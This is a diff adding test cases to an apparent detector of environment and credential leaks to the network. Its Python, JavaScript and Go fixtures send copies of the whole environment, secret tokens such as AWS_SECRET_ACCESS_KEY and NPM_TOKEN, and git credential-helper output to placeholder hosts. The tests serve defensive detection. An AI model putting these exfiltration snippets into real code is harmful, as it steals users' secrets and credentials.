@@ -733,3 +733,65 @@ TEST_CASE("a URL built by a helper, the key directory globbed and an attribute f
              "        requests.post('https://x.example.io/b', json=describe(self))\n\ndef describe(obj):\n    return {'kind': 'b'}\n",
              "environment_to_network", false);
 }
+
+TEST_CASE("a container holding the whole environment as one value gives it back whole") {
+  // A registry filled by a helper and read back by name: the entry is the environment, not one variable of it.
+  check_flow(Language::python,
+             "import os\nimport requests\n\n_REGISTRY = {}\n\ndef register(name, value):\n    _REGISTRY[name] = value\n\n"
+             "def resolve(name):\n    return _REGISTRY[name]\n\nregister('runtime', os.environ.copy())\n"
+             "register('sink', 'https://collector.x.example.net/v1/runtime')\n\ndef report_runtime():\n"
+             "    requests.post(resolve('sink'), json={'runtime': resolve('runtime')}, timeout=5)\n",
+             "environment_to_network", true);
+  check_flow(Language::javascript,
+             "const queue = [];\nqueue.push(process.env);\nconst first = queue[0];\n"
+             "fetch('https://x.example.com/q', { method: 'POST', body: JSON.stringify(first) });\n",
+             "environment_to_network", true);
+  // A copy of the environment read key by key is one variable at a time; merging it in is the same copy.
+  check_flow(Language::python,
+             "import os, requests\nenv = dict(os.environ)\nrequests.post('https://x.example.com/h', json={'home': env['HOME']})\n",
+             "environment_to_network", false);
+  check_flow(Language::python,
+             "import os, requests\nsettings = {}\nsettings.update(os.environ)\n"
+             "requests.post('https://x.example.com/h', json={'home': settings.get('HOME')})\n",
+             "environment_to_network", false);
+}
+
+TEST_CASE("a loop over a table of secret variable names reads each of them") {
+  const std::string go_loop =
+      "package cache\n\nimport (\n\t\"net/http\"\n\t\"net/url\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
+      "var names = []string{NAMES}\n\nvar do = http.DefaultClient.Do\n\n"
+      "func params() url.Values {\n\tv := url.Values{}\n\tfor _, n := range names {\n"
+      "\t\tif val, ok := os.LookupEnv(n); ok {\n\t\t\tv.Set(strings.ToLower(n), val)\n\t\t}\n\t}\n\treturn v\n}\n\n"
+      "func Warm() error {\n\treq, _ := http.NewRequest(\"POST\", \"https://cache.x.example.io/warm\", strings.NewReader(params().Encode()))\n"
+      "\tresp, err := do(req)\n\tif err != nil {\n\t\treturn err\n\t}\n\treturn resp.Body.Close()\n}\n";
+  auto with = [&](const std::string& names) {
+    std::string code = go_loop;
+    code.replace(code.find("NAMES"), 5, names);
+    return code;
+  };
+  check_flow(Language::go, with("\"AWS_SECRET_ACCESS_KEY\", \"NPM_TOKEN\""), "credentials_to_network", true);
+  check_flow(Language::go, with("\"HOME\", \"LANG\""), "credentials_to_network", false);
+  check_flow(Language::python,
+             "import os, requests\nvals = {n: os.getenv(n) for n in ['GITHUB_TOKEN', 'NPM_TOKEN']}\n"
+             "requests.post('https://x.example.com/v', json=vals)\n",
+             "credentials_to_network", true);
+}
+
+TEST_CASE("a Go encoder writing onto a connection sends what it encodes") {
+  check_flow(Language::go,
+             "package auth\n\nimport (\n\t\"bufio\"\n\t\"encoding/json\"\n\t\"net\"\n\t\"os/exec\"\n\t\"strings\"\n)\n\n"
+             "func fill(host string) string {\n\tcmd := exec.Command(\"git\", \"credential\", \"fill\")\n"
+             "\tcmd.Stdin = strings.NewReader(\"host=\" + host + \"\\n\\n\")\n\tout, _ := cmd.Output()\n\treturn string(out)\n}\n\n"
+             "func parse(raw string) map[string]string {\n\tm := map[string]string{}\n"
+             "\tsc := bufio.NewScanner(strings.NewReader(raw))\n\tfor sc.Scan() {\n"
+             "\t\tif k, v, ok := strings.Cut(sc.Text(), \"=\"); ok {\n\t\t\tm[k] = v\n\t\t}\n\t}\n\treturn m\n}\n\n"
+             "func Probe(hosts []string) {\n\tconn, _ := net.Dial(\"tcp\", \"relay.x.example.io:9443\")\n"
+             "\tenc := json.NewEncoder(conn)\n\tfor _, h := range hosts {\n\t\t_ = enc.Encode(parse(fill(h)))\n\t}\n}\n",
+             "credentials_to_network", true);
+  // An encoder onto a file or stdout sends nothing anywhere.
+  check_flow(Language::go,
+             "package auth\n\nimport (\n\t\"encoding/json\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n"
+             "func Show() {\n\tout, _ := exec.Command(\"git\", \"credential\", \"fill\").Output()\n"
+             "\t_ = json.NewEncoder(os.Stdout).Encode(string(out))\n}\n",
+             "credentials_to_network", false);
+}
